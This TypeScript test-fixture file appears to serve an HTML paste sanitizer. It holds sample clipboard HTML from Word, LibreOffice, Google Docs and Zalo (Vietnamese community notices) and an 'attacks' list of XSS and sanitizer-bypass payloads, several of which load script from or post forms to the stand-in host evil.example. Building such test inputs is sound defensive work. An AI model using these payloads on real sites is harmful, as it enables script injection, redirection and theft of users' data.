/** Pieces of documents as programs put them on the clipboard; written for the tests, after their manner. */

/** Word 2016 and later: conditional comments, mso- styles, o:p, list paragraphs, smart tags. */
export const fromWord = `<html xmlns:o="urn:schemas-microsoft-com:office:office" xmlns:w="urn:schemas-microsoft-com:office:word">
<head><meta name=Generator content="Microsoft Word 15"><title>Thông báo</title>
<!--[if gte mso 9]><xml><w:WordDocument><w:View>Normal</w:View></w:WordDocument></xml><![endif]-->
<style><!-- /* Style Definitions */ p.MsoNormal {mso-style-unhide:no; margin:0cm;} --></style></head>
<body lang=VI style='tab-interval:36.0pt'><!--StartFragment-->
<p class=MsoTitle><span style='font-size:20.0pt'>THÔNG BÁO<o:p></o:p></span></p>
<h1><b><span style='font-family:"Times New Roman",serif'>Lịch thu gom rác<o:p></o:p></span></b></h1>
<p class=MsoNormal style='text-align:justify;mso-margin-top-alt:auto'><b style='mso-bidi-font-weight:normal'><span style='mso-fareast-font-family:"Times New Roman"'>Kính gửi:</span></b><span style='mso-spacerun:yes'>  </span>bà con <st1:place w:st="on">tổ dân phố</st1:place> số&nbsp;4<o:p></o:p></p>
<p class=MsoListParagraphCxSpFirst style='text-indent:-18.0pt;mso-list:l0 level1 lfo1'><![if !supportLists]><span style='font-family:Symbol'><span style='mso-list:Ignore'>·<span style='font:7.0pt "Times New Roman"'>&nbsp;&nbsp;&nbsp;&nbsp;</span></span></span><![endif]>Rác hữu cơ: thứ Hai, thứ Năm<o:p></o:p></p>
<p class=MsoListParagraphCxSpMiddle style='mso-list:l0 level2 lfo1'><![if !supportLists]><span style='mso-list:Ignore'>o<span>&nbsp;&nbsp;</span></span><![endif]>từ <i>18 giờ</i><o:p></o:p></p>
<p class=MsoListParagraphCxSpLast style='mso-list:l0 level1 lfo1'><![if !supportLists]><span style='mso-list:Ignore'>·<span>&nbsp;</span></span><![endif]>Rác tái chế: thứ Bảy<o:p></o:p></p>
<p class=MsoNormal><o:p>&nbsp;</o:p></p>
<p class=MsoListParagraph style='mso-list:l1 level1 lfo2'><![if !supportLists]><span style='mso-list:Ignore'>1.<span>&nbsp;</span></span><![endif]>Bước một</p>
<p class=MsoListParagraph style='mso-list:l1 level1 lfo2'><![if !supportLists]><span style='mso-list:Ignore'>2.<span>&nbsp;</span></span><![endif]>Bước hai</p>
<table class=MsoTableGrid border=1 cellspacing=0><tr style='mso-yfti-irow:0'><td width=300 valign=top><p class=MsoNormal><b>Ngày<o:p></o:p></b></p></td><td><p class=MsoNormal><b>Giờ</b></p></td></tr><tr><td><p class=MsoNormal>24/11</p></td><td><p class=MsoNormal>18:00</p></td></tr></table>
<p class=MsoNormal><a href="file:///C:/Users/van-thu/thong-bao.docx">Xem tệp</a> và <a href="https://example.org/a?b=1&amp;c=2"><span style='color:blue'>trang này</span></a></p>
<!--EndFragment--></body></html>`;

/** LibreOffice Writer: font tags, western classes, real lists. */
export const fromLibreOffice = `<!DOCTYPE html><html><head><meta http-equiv="content-type" content="text/html; charset=utf-8"/>
<style type="text/css">p { line-height: 115% }</style></head><body lang="vi-VN" dir="ltr">
<p class="western" style="line-height: 100%"><font color="#000000"><font face="Liberation Serif, serif"><font size="4"><b>Họp tổ dân phố</b></font></font></font></p>
<ul><li><p style="margin-bottom: 0cm"><font face="Arial">Bàn việc <i>xây ngõ</i></font></p></li><li><p>Bầu tổ trưởng</p><ol><li><p>giới thiệu</p></li><li><p>bỏ phiếu</p></li></ol></li></ul>
<p class="western"><br/></p></body></html>`;

/** Google Docs: everything in a bold that is none, spans for weight, links that are counted. */
export const fromGoogle = `<meta charset='utf-8'><b style="font-weight:normal;" id="docs-internal-guid-1"><h2 dir="ltr"><span style="font-size:16pt;font-weight:400">Lịch tiếp dân</span></h2><p dir="ltr" style="line-height:1.38"><span style="font-weight:700;white-space:pre-wrap">Chủ tịch phường</span><span style="font-weight:400"> tiếp dân </span><span style="font-style:italic;font-weight:400">mỗi thứ Năm</span><span>.</span></p><br><ul style="margin-top:0"><li dir="ltr" aria-level="1"><p dir="ltr" role="presentation"><span>Mang theo căn cước</span></p></li></ul><p dir="ltr"><a href="https://www.google.com/url?q=https://example.org/lich&amp;sa=D" style="text-decoration:none"><span>Xem lịch</span></a></p></b><br class="Apple-interchange-newline">`;

/** Zalo: plain boxes and breaks, emoji, nothing else. */
export const fromZalo = `<div class="text-message"><span>Kính gửi bà con 🌿</span><br><br><span>Tối mai tổ ta <b>dọn vệ sinh</b> ngõ 5.</span><br><span>Mời mỗi nhà một người.</span></div>`;

/** Things that would run, load, frame or send if they came through. */
export const attacks: readonly string[] = [
  `<script>alert(1)</script>`,
  `<SCRIPT/SRC=//evil.example/x.js></SCRIPT>`,
  `<scr<script>ipt>alert(1)</scr</script>ipt>`,
  `<img src=x onerror=alert(1)>`,
  `<img src=x onerror="alert(1)"`,
  `<svg onload=alert(1)>`,
  `<svg><script>alert(1)</script></svg>`,
  `<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>`,
  `<svg><foreignObject><p onclick=alert(1)>x</p><iframe src=javascript:alert(1)></iframe></foreignObject></svg>`,
  `<svg><style><img src=x onerror=alert(1)></style></svg>`,
  `<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`,
  `<math><annotation-xml encoding="text/html"><script>alert(1)</script></annotation-xml></math>`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>`,
  `<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
  `<template><script>alert(1)</script></template>`,
  `<template shadowrootmode=open><img src=x onerror=alert(1)></template>`,
  `<a href="javascript:alert(1)">x</a>`,
  `<a href="java\nscript:alert(1)">x</a>`,
  `<a href="java&#x09;script:alert(1)">x</a>`,
  `<a href=" &#14; javascript:alert(1)">x</a>`,
  `<a href="&#106;&#97;&#118;&#97;script:alert(1)">x</a>`,
  `<a href="JaVaScRiPt&colon;alert(1)">x</a>`,
  `<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>`,
  `<a href="vbscript:msgbox(1)">x</a>`,
  `<a href="//evil.example">x</a>`,
  `<a href="/\\evil.example">x</a>`,
  `<a href="/\t/evil.example">x</a>`,
  `<a href="https://user:pass@evil.example/">x</a>`,
  `<a href='https://example.org/"onmouseover="alert(1)'>x</a>`,
  `<a href="mailto:x@example.org?cc=a@b.c&body=%0d%0aX">x</a>`,
  `<a href="blob:https://example.org/1">x</a>`,
  `<p onclick="alert(1)" style="background:url(javascript:alert(1))" class=x id=y>x</p>`,
  `<p/onmouseover=alert(1)/x>x</p>`,
  `<iframe src="javascript:alert(1)"></iframe>`,
  `<iframe srcdoc="<script>alert(1)</script>"></iframe>`,
  `<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">`,
  `<form action="https://evil.example"><input name=q><button formaction="javascript:alert(1)">x</button></form>`,
  `<base href="https://evil.example/"><link rel=stylesheet href="//evil.example/x.css"><meta http-equiv=refresh content="0;url=javascript:alert(1)">`,
  `<style>@import 'javascript:alert(1)';body{background:url(x)}</style>`,
  `<!--<img src="--><img src=x onerror=alert(1)//">`,
  `<!--[if IE]><script>alert(1)</script><![endif]-->`,
  `<![CDATA[<script>alert(1)</script>]]>`,
  `<svg><![CDATA[</svg><script>alert(1)</script>]]></svg>`,
  `<?xml version="1.0"?><?php alert(1) ?><p>x`,
  `<p>\u0000<scr\u0000ipt>alert(1)</scr\u0000ipt>`,
  `&lt;script&gt;alert(1)&lt;/script&gt;`,
  `&amp;lt;img src=x onerror=alert(1)&amp;gt;`,
  `<xmp><img src=x onerror=alert(1)></xmp><plaintext><script>alert(1)</script>`,
  `<textarea><script>alert(1)</script></textarea><img src=x onerror=alert(1)>`,
  `<title><img src=x onerror=alert(1)></title>`,
  `<select><option><script>alert(1)</script></select>`,
  `<table><tr><td background="javascript:alert(1)" onclick=alert(1)>a<td>b<script>alert(1)</script></table>`,
  `<table><script>alert(1)</script><tr><td>a<td>b`,
  `<details open ontoggle=alert(1)>x</details><marquee onstart=alert(1)>x</marquee>`,
  `<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>`,
  `<b><i><a href="https://example.org" onclick=alert(1)><p>x</b></i>`,
  `<p><a href="https://example.org"><a href="javascript:alert(1)">x</a></a>`,
  `<x-y onfocus=alert(1) tabindex=1 autofocus>x</x-y>`,
  `<body onload=alert(1)><html onclick=alert(1)>x`,
  `<p dir="rtl">\u202Etxt.exe\u202C</p>`,
  `<li><ul><li><script>alert(1)</script></li></ul></li>`,
];
